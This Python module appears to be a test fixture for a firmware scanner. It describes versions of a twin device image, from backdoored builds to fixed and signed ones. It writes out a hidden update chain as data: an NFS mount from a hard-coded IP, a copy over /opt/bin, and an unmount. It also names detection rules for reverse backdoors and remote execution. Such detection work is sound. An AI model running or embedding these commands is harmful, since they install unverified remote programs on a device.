"""In: nothing. Out: the versions of the twin's firmware: how each is made, and what is true of it."""

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any, Final

CENTRAL, RESULTS = "202.114.4.119", "202.114.4.120"
CHAIN: Final = ("firmware.interface-enabled", "firmware.remote-mount", "firmware.overwrites-programs",
                "firmware.runs-remote-file", "firmware.reverse-backdoor")  # fmt: skip
STREAM: Final = ("firmware.hard-coded-peer", "firmware.clear-telemetry")
EVERY: Final = (*CHAIN, *STREAM, "firmware.unverified-update")
STEPS: Final = ("interface-up", "remote-mount", "copy", "unmount")
PEERS: Final = [
    {"host": CENTRAL, "port": 515, "transport": "tcp", "program": "/opt/bin/monitor"},
    {"host": RESULTS, "port": 511, "transport": "tcp", "program": "/opt/bin/monitor"},
]
REACHED: Final = [
    {"program": "/opt/bin/monitor", "trigger": "menu", "keys": "m3"},
    {"program": "/opt/bin/update", "trigger": "key", "keys": "C"},
]


@dataclass(frozen=True)
class Personality:
    """One version: `fetch` is the source of its update function, `commands` what that runs, if anything of the chain.

    `eth0_down`: the start-up script takes eth0 down. `configured`: the device calls whom its settings name, and
    installs only what is signed. `against_206`: the answer of a comparison with 2.0.6.
    """

    version: str
    about: str
    fetch: str = ""
    network: bool = True
    eth0_down: bool = False
    configured: bool = False
    commands: tuple[str, ...] = ()
    against_206: str = "not-fixed"

    @property
    def file(self) -> str:
        """The image's name in the package."""
        return f"smart3250-twin-{self.version}.cramfs"

    @property
    def fires(self) -> tuple[str, ...]:
        """The rules that must find something."""
        chain = (*CHAIN, "firmware.unverified-update") if self.commands else ()
        return (*chain, *(STREAM if self.network and not self.configured else ()))

    @property
    def silent(self) -> tuple[str, ...]:
        """The rules that must not speak. Of a verified copy from a share two may, since it is one."""
        open_to_reading = ("firmware.overwrites-programs", "firmware.runs-remote-file", "firmware.remote-mount",
                           "firmware.interface-enabled") if self.configured else ()  # fmt: skip
        return tuple(rule for rule in EVERY if rule not in {*self.fires, *open_to_reading})

    @property
    def truth(self) -> Mapping[str, Any]:
        """For tests of the scan, as JSON."""
        return {
            "version": self.version,
            "about": self.about,
            "image": self.file,
            "peers": PEERS if self.network and not self.configured else [],
            "chain": self._chain() if self.commands else None,
            "eth0_down_at_start": self.eth0_down,
            "rules": {"fire": self.fires, "silent": self.silent},
            "compared_with_2.0.6": self.against_206,
        }

    def _chain(self) -> Mapping[str, Any]:
        return {"steps": STEPS, "commands": self.commands, "mounts": f"{CENTRAL}:/pm", "reached": REACHED}


_LITERAL: Final = (
    "ifconfig eth0 up",
    "mount -o nolock -t nfs 202.114.4.119:/pm /mnt",
    "cp -rf /mnt/* /opt/bin",
    "umount /mnt",
)
_WORDS: Final = (
    "SIOCSIFFLAGS eth0 IFF_UP",
    "mount -o nolock -t nfs 202.114.4.119:/pm /mnt",
    "cp -rf /mnt/monitor /mnt/update /opt/bin",
    "umount /mnt",
)
_ALL: Final = (
    Personality("2.0.6", "the hidden function as found, each step a literal command", "fetch_literal.c",
                commands=_LITERAL),
    Personality("2.0.6-pre1", "a pre-release: the address as four numbers, the commands formatted",
                "fetch_formatted.c", commands=_LITERAL),
    Personality("2.0.6-pre2", "a pre-release: no shell, the interface by ioctl, programs started with their words",
                "fetch_words.c", commands=_WORDS),
    Personality("2.0.7", "a patch that fixes nothing: eth0 is taken down at start, the function is unchanged",
                "fetch_literal.c", eth0_down=True, commands=_LITERAL),
    Personality("2.0.8", "as 2.0.7, and the function disguised: commands encoded, the address worked out",
                "fetch_disguised.c", eth0_down=True, commands=_LITERAL),
    Personality("2025-07", "networking removed, local monitoring only", network=False, against_206="fixed"),
    Personality("signed", "peers from the settings; updates are newer, signed and recorded, or refused",
                "fetch_signed.c", configured=True, against_206="fixed"),
)  # fmt: skip
PERSONALITIES: Final[Mapping[str, Personality]] = {each.version: each for each in _ALL}
